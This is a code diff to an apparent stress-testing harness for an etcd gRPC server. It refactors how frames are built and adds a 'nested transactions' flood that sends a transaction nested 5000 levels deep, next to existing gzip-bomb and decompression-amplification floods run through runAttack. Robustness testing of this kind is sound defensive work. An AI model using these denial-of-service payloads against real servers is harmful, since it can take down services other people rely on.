@@ -111,12 +111,21 @@ function dense(): Uint8Array<ArrayBuffer> {
   return Bun.gzipSync(plain);
 }
 
+const TXN_HEAD = request("/etcdserverpb.KV/Txn");
 const GZIP_HEAD = request(PUT, [["grpc-encoding", "gzip"]]);
 
-/** A compressed put in frames. */
-function putOf(id: number, packed: Uint8Array): Uint8Array[] {
-  const bytes = message(packed, 1);
-  const parts: Uint8Array[] = [frame(HEADERS, END_HEADERS, id, GZIP_HEAD)];
+const NESTED_TXN = nested(5000);
+
+/** A transaction in a transaction, and so on (TxnRequest.success, RequestOp.request_txn). */
+function nested(depth: number): Uint8Array {
+  let inner: Uint8Array = NONE;
+  for (let level = 0; level < depth; level++) inner = bytesField(2, bytesField(4, inner));
+  return inner;
+}
+
+/** A request in frames. */
+function framesOf(id: number, head: Buffer, bytes: Buffer): Uint8Array[] {
+  const parts: Uint8Array[] = [frame(HEADERS, END_HEADERS, id, head)];
   for (let at = 0; at < bytes.length; at += 16_384) {
     const end = at + 16_384 >= bytes.length;
     parts.push(frame(DATA, end ? END_STREAM : 0, id, bytes.subarray(at, at + 16_384)));
@@ -205,8 +214,11 @@ const FLOODS: Readonly<Record<string, Flood>> = {
     const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff]);
     return Buffer.concat([frame(HEADERS, END_HEADERS, id, RANGE_HEAD), frame(DATA, 0, id, prefix)]);
   }),
-  "gzip bombs": (state) => putOf(takeId(state), BOMB_GZIP),
-  "gzip that grows a hundred times": (state) => putOf(takeId(state), DENSE_GZIP),
+  "gzip bombs": (state) => framesOf(takeId(state), GZIP_HEAD, message(BOMB_GZIP, 1)),
+  "gzip that grows a hundred times": (state) => {
+    return framesOf(takeId(state), GZIP_HEAD, message(DENSE_GZIP, 1));
+  },
+  "nested transactions": (state) => framesOf(takeId(state), TXN_HEAD, message(NESTED_TXN)),
 };
 
 await runAttack(async (attack) => {
